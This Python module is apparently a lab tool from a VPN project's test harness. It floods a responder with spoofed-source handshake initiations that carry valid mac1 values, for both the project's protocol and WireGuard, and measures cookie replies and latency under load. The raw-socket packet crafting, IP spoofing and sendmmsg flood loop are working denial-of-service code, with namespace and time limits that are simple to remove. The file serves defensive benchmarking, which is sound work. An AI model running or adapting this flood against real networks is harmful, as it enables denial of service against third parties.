"""Handshake flood: initiations with a valid mac1 from random spoofed IPv4 sources (issue 12).

The attack of issue 12, "Handshake flood", as a lab tool. mac1 needs only the target's static
public key (which is in its certificate, so anyone may know it), so every initiation built here
passes the responder's mac1 check (docs/protocol.md §4.6, §4.7 step 2). The rest is random bytes
of the right layout: a random ephemeral key, a random "encrypted" static key, and a random
encrypted payload as long as one carrying a real certificate (``CERT_BYTES``). A responder without
cookies then does an X25519 (and an HKDF and an AEAD open) before it finds that the static key
does not decrypt: that key agreement is the price the attacker makes it pay (§11.4).

Kinds (``KINDS``):

- ``tunnel``: type 1, mac1 keyed by the node's (or general node's) static key (BLAKE2b,
  ``cyphonic.handshake.mac1_key``);
- ``control``: type 6, mac1 keyed by the cloud's static key (the cloud key's second part,
  ``hs.CONTROL``): the attack on the cloud's control channel;
- ``wireguard``: WireGuard's own initiation (type 1, 148 bytes; mac1 = BLAKE2s-128 keyed by
  BLAKE2s-256("mac1----" || public key), over the first 116 bytes) for the wireguard-go baseline.

Sources: random addresses of ``SPOOF_NET`` (172.16.0.0/12, used by no lab segment) and random
ports. They are NOT routable back to the attacker: the target sends whatever it answers (a
cookie reply) to its default gateway, the segment's switch namespace,
which does not forward and drops it, as the internet would deliver it to the innocent owner of
the address. ``ReplyCounter`` counts those answers there by message type (nftables in the switch
namespace), which shows whether the target answers with cookies.

Sending: a raw socket with IP_HDRINCL; IPv4 and UDP headers built here, both checksums right; a
pool of packets built once (``POOL_PACKETS`` distinct sources and initiations), then sent in a
tight loop with ``sendmmsg`` (``BATCH`` per system call), paced to ``--rate`` (0: as fast as it
goes), in ``--procs`` forked processes.

Bounds, so the lab tool can never be a flood tool outside the lab: at most ``MAX_SECONDS``
(20 s) and at most ``--rate`` × seconds packets (``MAX_PACKETS`` when unpaced), an alarm kills
every sender ``ALARM_SLACK_S`` after the end whatever it is doing; it refuses to run outside a
named network namespace (``ip netns``, as the lab makes them) and to send to an address that is
not on a link of its namespace (so only to a neighbour on the lab segment it sits on).

As a module, inside a lab namespace (``Lab.spawn``); prints one JSON line with the result:

    python -m lab.flood --kind tunnel --key HEX --target 198.18.0.3 --port 47100 \\
        --rate 0 --seconds 20 --procs 1

From Python: ``Flood(lab, attacker_host, ...).start()`` ... ``.wait()`` -> the result dict
(``sent``, ``seconds``, ``rate``, ``errors``, ``procs``); ``ReplyCounter(lab, segment)``.
"""

from __future__ import annotations

import argparse
import ctypes
import errno
import hashlib
import ipaddress
import json
import os
import random
import re
import signal
import socket
import statistics
import struct
import subprocess
import sys
import time
import traceback

from cyphonic import crypto
from cyphonic.ipv4 import checksum
from cyphonic import handshake as hs
from cyphonic.wire import handshake as hs_wire

KINDS = ("tunnel", "control", "wireguard")
SPOOF_NET = "172.16.0.0/12"
CERT_BYTES = 156              # a real node certificate's length (FQDN, addresses, key, signature)
POOL_PACKETS = 65536          # distinct sources per run: at 200k/s each recurs 3 times a second, far
                              # under the per-source bucket (20/s), as fresh spoofed sources would
MAX_POOL_PACKETS = 262144
BATCH = 64                    # packets per sendmmsg
MAX_SECONDS = 20.0
MAX_PACKETS = 5_000_000       # unpaced: 250k/s for 20 s, beyond what this machine reaches
SENDING_LINE = "lab.flood: sending"
START_TIMEOUT_S = 15          # building the pool takes about 1 s
ALARM_SLACK_S = 5             # SIGALRM this long after the planned end kills a sender
PING_INTERVAL_S = 0.02       # under_flood: 950 echoes in a 20 s flood, so 1 % is 9 of them
SAMPLE_EVERY_S = 2.0
WG_LABEL_MAC1 = b"mac1----"
WG_INITIATION_BYTES = 148
WG_MAC1_OFFSET = 116


# --- packets ---------------------------------------------------------------------------------

def ipv4_udp(src: str, sport: int, dst: str, dport: int, payload: bytes, ident: int = 0) -> bytes:
    """An IPv4 packet (no options, TTL 64, DF clear) carrying one UDP datagram, checksums right."""
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    ulen = 8 + len(payload)
    pseudo = s + d + struct.pack("!BBH", 0, socket.IPPROTO_UDP, ulen)
    ucsum = checksum(pseudo + struct.pack("!HHHH", sport, dport, ulen, 0) + payload) or 0xFFFF
    udp = struct.pack("!HHHH", sport, dport, ulen, ucsum)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, ident, 0, 64, socket.IPPROTO_UDP, 0, s, d)
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return head + udp + payload


def cyphonic_initiation(static_public: bytes, rng: random.Random, mtype: int = hs.TUNNEL.initiation_type,
                        cert_bytes: int = CERT_BYTES) -> bytes:
    """A CYPHONIC initiation (§4.3) of random content whose mac1 is valid for ``static_public``."""
    plen = hs_wire.INIT_MIN_PAYLOAD + cert_bytes
    msg = hs_wire.Initiation(rng.getrandbits(32) or 1, rng.randbytes(32), rng.randbytes(48),
                             rng.randbytes(plen), mtype=mtype)
    body = msg.body()
    return body + crypto.mac(hs.mac1_key(static_public), body) + b"\x00" * hs_wire.MAC_BYTES


def wireguard_mac1_key(static_public: bytes) -> bytes:
    return hashlib.blake2s(WG_LABEL_MAC1 + static_public).digest()


def wireguard_initiation(static_public: bytes, rng: random.Random) -> bytes:
    """A WireGuard handshake initiation (type 1 as a little-endian u32, sender index, ephemeral 32,
    encrypted static 48, encrypted timestamp 28, mac1 16, mac2 16: 148 bytes) of random content
    whose mac1 is valid for ``static_public``."""
    body = struct.pack("<II", 1, rng.getrandbits(32)) + rng.randbytes(32 + 48 + 28)
    assert len(body) == WG_MAC1_OFFSET
    mac1 = hashlib.blake2s(body, digest_size=16, key=wireguard_mac1_key(static_public)).digest()
    msg = body + mac1 + b"\x00" * 16
    assert len(msg) == WG_INITIATION_BYTES
    return msg


def initiation(kind: str, static_public: bytes, rng: random.Random) -> bytes:
    if kind == "tunnel":
        return cyphonic_initiation(static_public, rng, hs.TUNNEL.initiation_type)
    if kind == "control":
        return cyphonic_initiation(static_public, rng, hs.CONTROL.initiation_type)
    if kind == "wireguard":
        return wireguard_initiation(static_public, rng)
    raise ValueError(f"unknown flood kind {kind!r}, expected one of {KINDS}")


def build_pool(kind: str, static_public: bytes, target: str, port: int, n: int = POOL_PACKETS,
               spoof_net: str = SPOOF_NET, seed: int | None = None) -> list[bytes]:
    """``n`` IPv4 packets, each an initiation from a random source of ``spoof_net``."""
    rng = random.Random(seed)
    net = ipaddress.IPv4Network(spoof_net)
    span = net.num_addresses - 2
    base = int(net.network_address) + 1
    return [ipv4_udp(str(ipaddress.IPv4Address(base + rng.randrange(span))), rng.randrange(1024, 65536),
                     target, port, initiation(kind, static_public, rng), rng.getrandbits(16))
            for _ in range(n)]


# --- sending ---------------------------------------------------------------------------------

class _IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class _MsgHdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.c_void_p),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class _MMsgHdr(ctypes.Structure):
    _fields_ = [("hdr", _MsgHdr), ("len", ctypes.c_uint)]


class RawSender:
    """One raw IPv4 socket and the pool laid out for sendmmsg (all kept alive here)."""

    def __init__(self, pool: list[bytes], target: str) -> None:
        self.n = len(pool)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        self.bufs = [ctypes.create_string_buffer(p, len(p)) for p in pool]
        self.addr = ctypes.create_string_buffer(struct.pack("=HH4s8x", socket.AF_INET, 0, socket.inet_aton(target)), 16)
        self.iov = (_IOVec * self.n)()
        self.msgs = (_MMsgHdr * self.n)()
        for i, b in enumerate(self.bufs):
            self.iov[i].base = ctypes.addressof(b)
            self.iov[i].len = len(pool[i])
            h = self.msgs[i].hdr
            h.name = ctypes.addressof(self.addr)
            h.namelen = 16
            h.iov = ctypes.addressof(self.iov[i])
            h.iovlen = 1
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.libc.sendmmsg.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_uint, ctypes.c_int)
        self.libc.sendmmsg.restype = ctypes.c_int
        self.base = ctypes.addressof(self.msgs)
        self.size = ctypes.sizeof(_MMsgHdr)

    def send(self, start: int, count: int) -> int:
        """Send pool[start:start+count] (no wrap); the number sent, or -errno."""
        r = self.libc.sendmmsg(self.sock.fileno(), self.base + start * self.size, count, 0)
        return r if r >= 0 else -ctypes.get_errno()


def send_loop(sender: RawSender, *, start: int, rate: float, seconds: float, max_packets: int) -> dict:
    """Send from pool index ``start`` on, paced to ``rate`` per second (0: unpaced), until
    ``seconds`` passed or ``max_packets`` were sent."""
    sent = errors = 0
    i = start % sender.n
    t0 = time.monotonic()
    end = t0 + seconds
    while sent < max_packets:
        now = time.monotonic()
        if now >= end:
            break
        if rate:
            ahead = sent - (now - t0) * rate
            if ahead > BATCH:
                time.sleep(min(ahead / rate, end - now))
                continue
        count = min(BATCH, sender.n - i, max_packets - sent)
        r = sender.send(i, count)
        if r < 0:
            errors += 1
            if -r not in (errno.ENOBUFS, errno.EAGAIN, errno.EINTR):
                raise OSError(-r, os.strerror(-r))
            time.sleep(0.0005)
            continue
        sent += r
        i = (i + r) % sender.n
    return {"sent": sent, "errors": errors, "seconds": time.monotonic() - t0}


def _on_link(target: str) -> bool:
    out = subprocess.run(["ip", "-4", "route", "get", target], capture_output=True, text=True, timeout=5).stdout
    return bool(out) and " via " not in out and not out.startswith(("local", "broadcast", "unreachable"))


def _netns_name() -> str:
    """The name of the named namespace (``ip netns``, as the lab makes them) we run in, or ""."""
    out = subprocess.run(["ip", "netns", "identify", str(os.getpid())], capture_output=True, text=True,
                         timeout=5).stdout
    return out.strip()


def _check_place(target: str) -> None:
    if not _netns_name():
        raise SystemExit("lab.flood: refusing to run outside a named network namespace (run it in a lab's)")
    if not _on_link(target):
        raise SystemExit(f"lab.flood: {target} is not on a link of this namespace (only lab neighbours)")


def flood(kind: str, key: bytes, target: str, port: int, *, rate: float, seconds: float, procs: int,
          pool_packets: int = POOL_PACKETS, spoof_net: str = SPOOF_NET, on_sending=None) -> dict:
    """Build the pool, fork ``procs`` senders that share it, each with ``rate / procs``; their
    summed result: ``sent``, ``errors``, ``seconds`` (the longest sender's), ``rate`` (sent/s).
    ``on_sending()`` is called once the pool is built, just before the senders start."""
    if not 0 < seconds <= MAX_SECONDS:
        raise ValueError(f"seconds must be in (0, {MAX_SECONDS}]")
    t_build = time.monotonic()
    pool = build_pool(kind, key, target, port, pool_packets, spoof_net)
    sender = RawSender(pool, target)
    build_s = time.monotonic() - t_build
    per_rate = rate / procs if rate else 0.0
    per_max = int(per_rate * seconds) + BATCH if rate else MAX_PACKETS // procs
    if on_sending is not None:
        on_sending()
    children = []
    for k in range(procs):
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:                                   # a sender
            os.close(r)
            code = 1
            try:
                signal.alarm(int(seconds) + ALARM_SLACK_S)   # default action: the sender dies
                res = send_loop(sender, start=k * sender.n // procs, rate=per_rate, seconds=seconds,
                                max_packets=per_max)
                os.write(w, json.dumps(res).encode())
                code = 0
            except BaseException:
                traceback.print_exc()
            finally:
                os._exit(code)
        os.close(w)
        children.append((pid, r))
    results = []
    for pid, r in children:
        data = b""
        while chunk := os.read(r, 4096):
            data += chunk
        os.close(r)
        os.waitpid(pid, 0)
        if data:
            results.append(json.loads(data))
    sent = sum(x["sent"] for x in results)
    secs = max((x["seconds"] for x in results), default=0.0)
    return {"kind": kind, "target": f"{target}:{port}", "procs": procs, "senders_reporting": len(results),
            "rate_asked": rate, "sent": sent, "errors": sum(x["errors"] for x in results),
            "seconds": round(secs, 3), "rate": round(sent / secs) if secs else 0,
            "pool": len(pool), "pool_build_s": round(build_s, 2), "spoof_net": spoof_net}


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m lab.flood", description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--kind", choices=KINDS, required=True)
    ap.add_argument("--key", required=True, help="the target's static public key, 64 hex digits")
    ap.add_argument("--target", required=True, help="IPv4 address on a link of this namespace")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--rate", type=float, default=0.0, help="initiations per second in all (0: unpaced)")
    ap.add_argument("--seconds", type=float, default=MAX_SECONDS, help=f"at most {MAX_SECONDS:.0f}")
    ap.add_argument("--procs", type=int, default=1, choices=range(1, 5))
    ap.add_argument("--pool", type=int, default=POOL_PACKETS)
    ap.add_argument("--spoof-net", default=SPOOF_NET)
    args = ap.parse_args(argv)
    key = bytes.fromhex(args.key)
    if len(key) != 32:
        ap.error("--key: 32 bytes (64 hex digits)")
    if not 0 < args.seconds <= MAX_SECONDS:
        ap.error(f"--seconds: at most {MAX_SECONDS:.0f}")
    if not 1 <= args.pool <= MAX_POOL_PACKETS:
        ap.error(f"--pool: 1..{MAX_POOL_PACKETS}")
    ipaddress.IPv4Address(args.target)
    _check_place(args.target)
    res = flood(args.kind, key, args.target, args.port, rate=args.rate, seconds=args.seconds,
                procs=args.procs, pool_packets=args.pool, spoof_net=args.spoof_net,
                on_sending=lambda: print(SENDING_LINE, flush=True))
    print(json.dumps(res), flush=True)
    return 0


# --- the harness side (in the test or bench process) ------------------------------------------

class Flood:
    """``python -m lab.flood`` in ``attacker``'s namespace (spawned by the lab, so it is killed at
    teardown whatever happens); ``wait()`` returns its result."""

    def __init__(self, lab, attacker, *, kind: str, key: bytes, target: str, port: int, rate: float = 0.0,
                 seconds: float = MAX_SECONDS, procs: int = 1, log: str | os.PathLike) -> None:
        self.lab, self.attacker, self.log = lab, attacker, str(log)
        self.seconds = seconds
        self.argv = [sys.executable, "-m", "lab.flood", "--kind", kind, "--key", key.hex(), "--target", target,
                     "--port", str(port), "--rate", str(rate), "--seconds", str(seconds), "--procs", str(procs)]
        self.proc: subprocess.Popen | None = None
        self.started = 0.0

    def start(self) -> "Flood":
        """Spawn the sender and return once it starts sending (its pool built)."""
        self.proc = self.lab.spawn(self.attacker, self.argv, log=self.log)
        deadline = time.monotonic() + START_TIMEOUT_S
        while SENDING_LINE not in self._log():
            if self.proc.poll() is not None or time.monotonic() > deadline:
                raise AssertionError(f"lab.flood did not start sending:\n{self._log()[-3000:]}")
            time.sleep(0.02)
        self.started = time.monotonic()
        return self

    def _log(self) -> str:
        try:
            with open(self.log, errors="replace") as f:
                return f.read()
        except OSError:
            return ""

    def wait(self, timeout: float | None = None) -> dict:
        """The sender's JSON result (raises AssertionError with its log if it failed)."""
        assert self.proc is not None
        try:
            self.proc.wait(timeout if timeout is not None else self.seconds + 30)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait(5)
        text = self._log()
        for line in reversed(text.splitlines()):
            if line.startswith("{"):
                return json.loads(line)
        raise AssertionError(f"lab.flood gave no result (exit {self.proc.returncode}):\n{text[-3000:]}")


class ReplyCounter:
    """Counts, in a segment's switch namespace (its gateway), the UDP datagrams sent to spoofed
    sources (``SPOOF_NET``), by the first byte of the payload: 2 (a response), 3 (a cookie reply),
    7 (a control response), 10 (a control cookie reply), and all of them (``all``). The switch
    does not forward: the datagrams end there. The counts only grow: subtract two readings."""

    TABLE = "flood_replies"
    TYPES = {"response": 2, "cookie": 3, "control_response": 7, "control_cookie": 10}

    def __init__(self, lab, segment, spoof_net: str = SPOOF_NET) -> None:
        self.lab, self.ns = lab, segment.ns
        rules = "".join(f"    ip daddr {spoof_net} ip protocol udp @th,64,8 {t} counter comment \"{name}\"\n"
                        for name, t in self.TYPES.items())
        text = (f"table ip {self.TABLE}\ndelete table ip {self.TABLE}\n"
                f"table ip {self.TABLE} {{\n  chain pre {{\n    type filter hook prerouting priority -300;\n"
                f"{rules}    ip daddr {spoof_net} counter comment \"all\"\n  }}\n}}\n")
        r = lab.exec(self.ns, ["nft", "-f", "-"], input=text)
        if r.returncode != 0:
            raise RuntimeError(f"nft: {r.stderr}")

    def read(self) -> dict:
        out = self.lab.exec(self.ns, ["nft", "-j", "list", "table", "ip", self.TABLE]).stdout
        counts = {}
        for item in json.loads(out)["nftables"]:
            rule = item.get("rule")
            if not rule:
                continue
            name = rule.get("comment")
            pk = next((e["counter"]["packets"] for e in rule["expr"] if "counter" in e), 0)
            counts[name] = pk
        return counts


def parse_ping(text: str) -> dict:
    """Sent, received, loss (%) and RTTs (median, 90th percentile, max, in ms) from ping's output."""
    m = re.search(r"(\d+) packets transmitted, (\d+) received", text)
    times = sorted(float(x) for x in re.findall(r"time=([\d.]+) ms", text))
    sent, got = (int(m.group(1)), int(m.group(2))) if m else (0, 0)
    return {"sent": sent, "received": got, "loss_percent": round(100.0 * (sent - got) / sent, 2) if sent else 100.0,
            "median_ms": round(statistics.median(times), 3) if times else None,
            "p90_ms": round(times[int(0.9 * (len(times) - 1))], 3) if times else None,
            "max_ms": times[-1] if times else None}


def ping(lab, host, target: str, *, count: int, interval: float) -> dict:
    """``ping`` from ``host`` (bounded), parsed (``parse_ping``)."""
    p = lab.exec(host, ["ping", "-n", "-c", str(count), "-i", str(interval), "-W", "1", target],
                 timeout=count * interval + 20)
    return parse_ping(p.stdout)


def rss_kb(pid: int) -> int | None:
    """A process's resident set (VmRSS, kB); None once it is gone."""
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return None


def under_flood(lab, flood: Flood, *, pinger=None, target: str | None = None, interval: float = PING_INTERVAL_S,
                log: str | os.PathLike | None = None, sample=None, sample_every_s: float = SAMPLE_EVERY_S) -> dict:
    """Start ``flood``; while it runs, ping ``target`` from ``pinger`` (if given) every ``interval``
    for the flood's duration less one second (output to ``log``), and call ``sample()`` every
    ``sample_every_s``. Returns ``flood`` (its result), ``ping`` (``parse_ping``, or None) and
    ``samples`` ([(seconds into the flood, what ``sample`` returned)])."""
    flood.start()
    pinger_proc = None
    if pinger is not None:
        count = max(1, int((flood.seconds - 1.0) / interval))
        pinger_proc = lab.spawn(pinger, ["ping", "-n", "-c", str(count), "-i", str(interval), "-W", "1", target],
                                log=log)
    samples = []
    while True:
        t = time.monotonic() - flood.started
        busy = pinger_proc.poll() is None if pinger_proc is not None else False
        if t >= flood.seconds + 10 or (t >= flood.seconds and not busy):
            break
        if sample is not None and t < flood.seconds:
            samples.append((round(t, 1), sample()))
        time.sleep(max(0.01, sample_every_s - (time.monotonic() - flood.started - t)))
    pinged = None
    if pinger_proc is not None:
        try:
            pinger_proc.wait(15)
        except subprocess.TimeoutExpired:
            pinger_proc.kill()
        with open(log, errors="replace") as f:
            pinged = parse_ping(f.read())
    return {"flood": flood.wait(), "ping": pinged, "samples": samples}


def udp_counters(lab, host) -> dict:
    """The namespace's UDP MIB (``/proc/net/snmp``): InDatagrams, RcvbufErrors, ..."""
    return lab.snmp(host, "Udp")


if __name__ == "__main__":
    raise SystemExit(main())
